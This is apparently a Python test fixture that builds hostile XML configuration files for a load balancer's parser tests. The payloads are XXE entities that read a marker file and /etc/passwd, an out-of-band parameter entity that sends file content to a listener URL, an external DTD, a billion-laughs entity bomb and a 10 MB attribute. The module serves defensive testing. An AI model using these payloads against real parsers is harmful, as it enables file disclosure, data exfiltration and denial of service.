"""Hostile loadbalancer.xml texts for the test_hostile_xml_* files: external and parameter
entities after a marker file (whose content must never show up anywhere), an out-of-band
parameter entity that would send it to a listener, an external DTD, an entity bomb and a
10 MB attribute value. Each is otherwise a valid file for the given backends."""
import os
from pathlib import Path

from harness import cluster_of, loadbalancer_xml

MARKER = "ZDU-HOSTILE-MARKER-5e1c9b"
PASSWD_LINE = "root:x:0:0:"  # what /etc/passwd would give away
HUGE_VALUE_BYTES = 10 * 1024 * 1024  # above libxml2's limit on an attribute (10,000,000)
CONFIG_MAX = "ZduConfigMaxBytes 16M\n"  # so the 10 MB file reaches the parser
NO_POLL = {"reload-poll-interval-in-seconds": 0}  # only cmd=reload or a push loads a file
# Generous bounds, for sanitizer builds too: a load refused in a blink, memory nowhere near.
MAX_GROWTH_KB = 200 * 1024
MAX_SECONDS = 10.0


def marker_file(directory):
    """A file holding MARKER, readable by httpd's children (which run as www-data when the
    tests run as root): a load that read it would leak it, so its absence means something."""
    os.chmod(directory, 0o755)
    path = Path(directory) / "marker.txt"
    path.write_text(MARKER + "\n")
    os.chmod(path, 0o644)
    return path


def _with_subset(body, subset):
    """The file with an internal DTD subset (and no public DOCTYPE) in front of its root."""
    head, root = body.split("<loadbalancer>", 1)
    head = head.split("<!DOCTYPE", 1)[0]
    return f"{head}<!DOCTYPE loadbalancer [\n{subset}\n]>\n<loadbalancer>{root}"


def payloads(backends, marker, listener, properties=None):
    """{name: (xml text, the text of the line the error must name)}. `listener`: an http URL
    that an out-of-band entity would send the marker to."""
    good = loadbalancer_xml([cluster_of(backends)], properties)
    use = good.replace("<loadbalancer>", "<loadbalancer>\n  <property name=\"x\" value=\"&x;\"/>",
                       1)
    bomb = ['  <!ENTITY lol0 "lol">'] + [
        f'  <!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    huge = good.replace("<loadbalancer>", "<loadbalancer>\n  <property name=\"big\" value=\""
                        + "A" * HUGE_VALUE_BYTES + "\"/>", 1)
    return {
        "external entity": (_with_subset(use, f'  <!ENTITY x SYSTEM "file://{marker}">'),
                            "<!ENTITY x"),
        "entity on /etc/passwd": (_with_subset(use, '  <!ENTITY x SYSTEM "/etc/passwd">'),
                                  "<!ENTITY x"),
        "parameter entity": (_with_subset(good, f'  <!ENTITY % p SYSTEM "file://{marker}">\n'
                                                f'  %p;'), "<!ENTITY % p"),
        "out-of-band entity": (_with_subset(good, (
            f'  <!ENTITY % data SYSTEM "file://{marker}">\n'
            f'  <!ENTITY % send "<!ENTITY &#x25; leak SYSTEM \'{listener}/leak?%data;\'>">\n'
            "  %send;\n  %leak;")), "<!ENTITY % data"),
        "external DTD": (good.replace("<loadbalancer>",
                                      f'<!DOCTYPE loadbalancer SYSTEM "file://{marker}">\n'
                                      "<loadbalancer>", 1).replace(
                                          good.splitlines()[1] + "\n", "", 1),
                         "<!DOCTYPE loadbalancer SYSTEM"),
        "billion laughs": (_with_subset(use.replace("&x;", "&lol9;"), "\n".join(bomb)),
                           "<!ENTITY lol0"),
        "10 MB attribute": (huge, '<property name="big"'),
    }


def line_of(text, needle):
    """1-based number of the first line of `text` containing `needle`."""
    return next(n for n, line in enumerate(text.splitlines(), 1) if needle in line)


def peak_rss_kb(pid):
    """VmHWM, the most memory the process has had resident, from /proc/<pid>/status."""
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    raise AssertionError(f"no VmHWM for {pid}")
